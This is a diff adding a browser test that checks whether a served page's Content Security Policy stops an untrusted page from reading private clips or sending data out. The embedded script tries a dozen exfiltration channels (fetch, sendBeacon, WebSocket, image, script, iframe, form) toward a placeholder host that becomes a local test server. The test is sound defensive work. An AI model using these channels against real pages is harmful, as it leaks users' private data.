@@ -2,6 +2,7 @@
 
 import threading
 from contextlib import contextmanager
+from http.server import BaseHTTPRequestHandler, HTTPServer
 
 from commands import export
 from seehear.pages.server import open_server
@@ -72,3 +73,55 @@ def test_captions_show_while_the_clip_plays(browser_page, tmp_path):
             shown = f"[...{PLAYER}.textTracks[0].activeCues].map((cue) => cue.getCueAsHTML().textContent)"
             until(browser_page, f"{PLAYER}.currentTime === {moment} && {shown}.length === {len(captions)}")
             assert sorted(browser_page.evaluate(shown)) == captions
+
+
+SENT = """<!doctype html><meta charset="utf-8"><link rel="icon" href="data:,"><script>
+const tried = [], blocked = [], there = "ELSEWHERE";
+document.addEventListener("securitypolicyviolation", (event) => blocked.push(event.effectiveDirective));
+const attempt = (what) => { tried.push(1); try { what(); } catch (error) { /* refused at once */ } };
+const add = (tag, facts) => document.documentElement.append(Object.assign(document.createElement(tag), facts));
+attempt(() => fetch("/private/diary.mp4").catch(() => {}));
+attempt(() => fetch(there + "?fetched", {mode: "no-cors"}).catch(() => {}));
+attempt(() => navigator.sendBeacon(there + "?beacon", "secret"));
+attempt(() => new WebSocket(there.replace("http", "ws") + "?socket"));
+attempt(() => new EventSource(there + "?events"));
+attempt(() => new Worker(there + "?worker"));
+attempt(() => add("img", {src: there + "?image"}));
+attempt(() => add("video", {src: there + "?video"}));
+attempt(() => add("script", {src: there + "?script"}));
+attempt(() => add("link", {rel: "stylesheet", href: there + "?style"}));
+attempt(() => add("iframe", {src: there + "?frame"}));
+attempt(() => { add("form", {action: there + "?form", id: "sent"}); document.getElementById("sent").submit(); });
+</script>"""
+
+
+def test_a_page_that_someone_sent_can_neither_read_clips_nor_send_anything(browser, tmp_path):
+    """Such a page runs its script, but the clips elsewhere that the server plays stay on this computer."""
+    file = clip(tmp_path / "private", "diary")
+    with_page(parsed(file), tmp_path / "pages")
+    asked = []
+
+    class Elsewhere(BaseHTTPRequestHandler):
+        def do_GET(self):
+            asked.append(self.path)
+            self.send_response(204)
+            self.end_headers()
+
+        do_POST = do_GET
+
+        def log_message(self, *_):
+            pass
+
+    with HTTPServer(("127.0.0.1", 0), Elsewhere) as elsewhere, served(tmp_path / "pages") as address:
+        threading.Thread(target=elsewhere.serve_forever, args=(0.01,), daemon=True).start()
+        there = f"http://127.0.0.1:{elsewhere.server_port}/"
+        (tmp_path / "pages" / "sent.html").write_text(SENT.replace("ELSEWHERE", there))
+        context = browser.new_context()
+        page = context.new_page()
+        page.goto(f"{address}sent.html", wait_until="commit")
+        until(page, "tried.length === 12 && new Set(blocked).size >= 6")
+        blocked = set(page.evaluate("blocked"))
+        context.close()
+        elsewhere.shutdown()
+    assert asked == []
+    assert {"connect-src", "img-src", "script-src-elem", "style-src-elem", "form-action", "media-src"} <= blocked
